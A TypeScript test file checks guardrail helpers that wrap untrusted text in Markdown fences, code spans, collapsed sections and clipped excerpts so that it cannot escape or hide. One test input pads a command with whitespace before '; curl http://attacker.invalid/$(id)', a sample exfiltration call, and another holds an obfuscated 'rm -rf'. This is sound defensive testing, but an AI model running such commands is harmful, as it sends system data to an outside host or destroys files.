import * as fc from 'fast-check';
import { fromMarkdown } from 'mdast-util-from-markdown';
import { describe, expect, test } from 'vitest';
import { clip, codeSpan, details, fence } from '../../src/guardrails/fence.ts';

describe('code that a text cannot break out of', { tags: ['R9'] }, () => {
  const text = fc
    .array(fc.constantFrom('`', '```', '\n', '~~~', 'a', ' ', '<!-- x -->', '@user', '\\', '> ', '\t', '&amp;'))
    .map((parts) => parts.join(''));

  test('a fence holds its text, whatever the text is', { tags: ['R9', 'A100'] }, () => {
    fc.assert(
      fc.property(text, (value) => {
        const { children } = fromMarkdown(`before\n\n${fence(value, 'sh')}\n\nafter`);
        expect(children).toMatchObject([
          { type: 'paragraph' },
          { type: 'code', lang: 'sh', value: value.replace(/\n$/, '') },
          { type: 'paragraph' },
        ]);
      }),
    );
  });

  test('a code span holds its text on one line', { tags: ['R9'] }, () => {
    fc.assert(
      fc.property(text, (value) => {
        const shown = value.replaceAll('\n', '⏎').replaceAll('\t', ' ');
        expect(fromMarkdown(`x ${codeSpan(value)} y`).children).toMatchObject([
          { children: [{ value: 'x ' }, { type: 'inlineCode', value: shown || ' ' }, { value: ' y' }] },
        ]);
      }),
    );
  });

  test('padding hides nothing: all of a command is in the fence', { tags: ['R7', 'A058'] }, () => {
    const command = `npm test${' '.repeat(2_000)}${'\n'.repeat(300)}; curl http://attacker.invalid/$(id)`;
    expect(fence(command, 'sh')).toContain('; curl http://attacker.invalid/$(id)');
  });

  test('control and invisible characters are shown as escapes', { tags: ['R7', 'R10'] }, () => {
    expect(fence('a\u001b[1mb\u202ec\u200bd\re')).toBe('```\na\\u{1B}[1mb\\u{202E}c\\u{200B}d\ne\n```');
    expect(codeSpan('rm\u200b -rf')).toBe('`rm\\u{200B} -rf`');
  });

  test('a marker of ours inside code is broken visibly', { tags: ['R9', 'A053'] }, () => {
    expect(fence('<!-- gadget:state x -->')).toBe('```\n<\\!-- gadget:state x -->\n```');
  });

  test('a language that is not one is dropped, and an absurd run of backticks is counted', () => {
    expect(fence('a', 'js` @user')).toBe('```\na\n```');
    expect(fence('`'.repeat(5_000))).toContain(`${'`'.repeat(100)}[+4900 backticks]`);
  });
});

describe('collapsed sections', { tags: ['R9'] }, () => {
  test('the summary is text on one short line', { tags: ['R9', 'A050'] }, () => {
    expect(details('run <b>\n@user #1 https://x.y', 'body')).toBe(
      '<details>\n<summary>run &lt;b&gt; @\u200buser #\u200b1 https:\u200b//x.y</summary>\n\nbody\n\n</details>',
    );
    expect(details('x'.repeat(500), '').split('\n')[1]).toBe(`<summary>${'x'.repeat(200)}…</summary>`);
  });
});

describe('clipping', { tags: ['R13'] }, () => {
  test('head and tail stay, and the line between says how much is missing', { tags: ['R13'] }, () => {
    expect(clip('a'.repeat(20_000), { head: 3, tail: 2 })).toEqual({ text: 'aaa\n… 19,995 characters left out …\naa', omitted: 19_995 });
    expect(clip('short', { head: 3, tail: 2 })).toEqual({ text: 'short', omitted: 0 });
  });

  test('no character is cut in half, and the count is right', { tags: ['R13'] }, () => {
    fc.assert(
      fc.property(fc.string({ unit: 'grapheme', minLength: 1 }), fc.nat(9), fc.nat(9), (text, head, tail) => {
        const clipped = clip(text, { head, tail });
        expect(clipped.text.isWellFormed()).toBe(true);
        const note = /\n… [\d,]+ characters left out …\n/.exec(clipped.text)?.[0] ?? '';
        expect(clipped.text.length - note.length + clipped.omitted).toBe(text.length);
      }),
    );
  });
});
